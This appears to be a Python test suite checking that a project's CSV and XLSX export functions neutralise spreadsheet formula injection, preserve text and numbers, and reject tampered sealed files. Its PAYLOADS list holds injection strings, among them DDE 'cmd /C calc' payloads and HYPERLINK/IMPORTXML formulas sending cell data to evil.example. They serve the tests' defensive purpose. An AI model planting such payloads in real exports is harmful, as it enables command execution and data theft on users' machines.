"""T16: what is written can be run by no spreadsheet program, and is what it was when it is read again."""

import csv
import io
import re
import unicodedata
from datetime import datetime
from decimal import Decimal

import openpyxl
import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from openpyxl.utils.escape import unescape

from core.files.sealed import PIECE, SealedWriter, read_sealed
from core.files.writing import restore_text, safe_text, write_csv, write_xlsx
from core.rules.crypto import SealBroken, Sealer, new_key

LEADS = ["=", "+", "-", "@", "\t", "\r", "\n", ";", "|", "%", "＝", "＋", "－", "＠", "｜", "；", "−", "﹦", "﹢"]
PAYLOADS = [
    *(f"{lead}cmd|'/C calc'!A0" for lead in LEADS),
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "=1+1",
    " =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "'=1+1",
    "''=1+1",
    "\x00=1+1",
    "\x1f=1+1",
    '=DDE("cmd";"/C calc";"x")',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "-2+3+cmd|'/C calc'!A0",
    '+IMPORTXML("http://evil.example","//a")',
    "\r\n=1+1",
]
SHOWN = st.text(
    st.characters(exclude_categories=("Cc", "Cs"), exclude_characters="\ufffe\uffff", include_characters="\n")
)


def as_csv(rows: list[list[object]]) -> list[list[str]]:
    sink = io.BytesIO()
    write_csv(sink, rows)  # type: ignore[arg-type]
    return list(csv.reader(io.StringIO(sink.getvalue().decode("utf-8-sig"), newline="")))


def as_xlsx(rows: list[list[object]]) -> openpyxl.Workbook:
    sink = io.BytesIO()
    write_xlsx(sink, rows, about=["who, when, why"])  # type: ignore[arg-type]
    return openpyxl.load_workbook(sink)


def test_there_are_thirty_payloads() -> None:
    assert len(set(PAYLOADS)) >= 30


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_no_cell_begins_with_what_a_program_runs(payload: str) -> None:
    (row,) = as_csv([[payload]])
    assert row[0].startswith("'")
    (cell,) = next(as_xlsx([[payload]])["Data"].iter_rows())
    assert (cell.data_type, str(cell.value)[0]) == ("s", "'")


def test_a_bare_writer_is_caught() -> None:
    """The gate of the test above fires for what is not neutralised."""
    book = openpyxl.Workbook()
    book.active.append(["=1+1"])
    sink = io.BytesIO()
    book.save(sink)
    (cell,) = next(openpyxl.load_workbook(sink).active.iter_rows())
    assert cell.data_type == "f"


@settings(max_examples=5_000, deadline=None)
@given(SHOWN)
@example("_x0041_")
@example("'")
@example("''=")
@example("' +")
def test_a_text_comes_back_as_it_was(text: str) -> None:
    assert restore_text(safe_text(text)) == text.replace("\r\n", "\n").replace("\r", "\n")


@settings(max_examples=200, deadline=None)
@given(st.lists(SHOWN, min_size=1, max_size=20))
@example(["_x0041_ & <b>", "a\nb", " x ", "王小明"])
def test_files_come_back_as_they_were(texts: list[str]) -> None:
    expected = [text.replace("\r\n", "\n").replace("\r", "\n") for text in texts]
    assert [restore_text(cell) for cell in as_csv([texts])[0]] == expected  # type: ignore[list-item]
    cells = next(as_xlsx([texts])["Data"].iter_rows())  # type: ignore[list-item]
    assert [restore_text(unescape(str(cell.value or ""))) for cell in cells] == expected


@settings(max_examples=300, deadline=None)
@given(st.text(max_size=200))
def test_no_text_breaks_a_file(text: str) -> None:
    """Whatever stands in it, it comes back as one cell of one row, and as no formula."""
    assert [len(row) for row in as_csv([[text, "end"]])] == [2]
    (row,) = as_xlsx([[text, "end"]])["Data"].iter_rows()
    assert ([cell.value for cell in row][1:], row[0].data_type in {"s", "n"}) == (["end"], True)


def test_control_characters_are_shown() -> None:
    assert safe_text("a\x00b\x1bc\ud800") == "a�b�c�"
    assert not any(unicodedata.category(character) in {"Cc", "Cs"} for character in safe_text("\x01\x7f\x9f\udfff"))


def test_numbers_stay_numbers() -> None:
    values = [-5, Decimal("-1.50"), 3, None, datetime(2026, 3, 1, 9, 30)]  # noqa: DTZ001
    assert as_csv([values]) == [["-5", "-1.50", "3", "", "2026-03-01 09:30:00"]]
    cells = next(as_xlsx([values])["Data"].iter_rows())
    assert [cell.data_type for cell in cells] == ["n", "n", "n", "s", "s"] or cells[3].value in (None, "")
    assert [cell.value for cell in cells[:3]] == [-5, -1.5, 3]


def test_a_workbook_says_what_it_is() -> None:
    assert as_xlsx([["a"]])["About"]["A1"].value == "who, when, why"


# --- sealed files ---


def sealed(data: bytes, sealer: Sealer, context: bytes = b"export|1") -> bytes:
    stream = io.BytesIO()
    writer = SealedWriter(stream, sealer, context)
    for start in range(0, len(data), 1000):
        writer.write(data[start : start + 1000])
    writer.close()
    return stream.getvalue()


@pytest.mark.parametrize("size", [0, 1, PIECE - 1, PIECE, PIECE + 1, 3 * PIECE + 7])
def test_a_sealed_file_comes_back(size: int) -> None:
    sealer, data = Sealer(key=new_key()), bytes(range(256)) * (size // 256 + 1)
    lying = sealed(data[:size], sealer)
    assert b"".join(read_sealed(io.BytesIO(lying), sealer, b"export|1")) == data[:size]
    assert data[:64] not in lying


def test_a_sealed_file_that_was_touched_does_not_open() -> None:
    sealer = Sealer(key=new_key())
    lying = sealed(b"x" * (3 * PIECE), sealer)
    piece = len(lying) // 3
    first = int.from_bytes(lying[:4], "big") + 4
    touched = {
        "cut off": lying[: 2 * first],
        "turned": lying[first : 2 * first] + lying[:first] + lying[2 * first :],
        "changed": lying[:piece] + bytes([lying[piece] ^ 1]) + lying[piece + 1 :],
        "empty": b"",
    }
    for how, data in touched.items():
        with pytest.raises(SealBroken):
            assert list(read_sealed(io.BytesIO(data), sealer, b"export|1")), how
    with pytest.raises(SealBroken):
        list(read_sealed(io.BytesIO(lying), sealer, b"export|2"))
    assert re.search(rb"x{20}", lying) is None
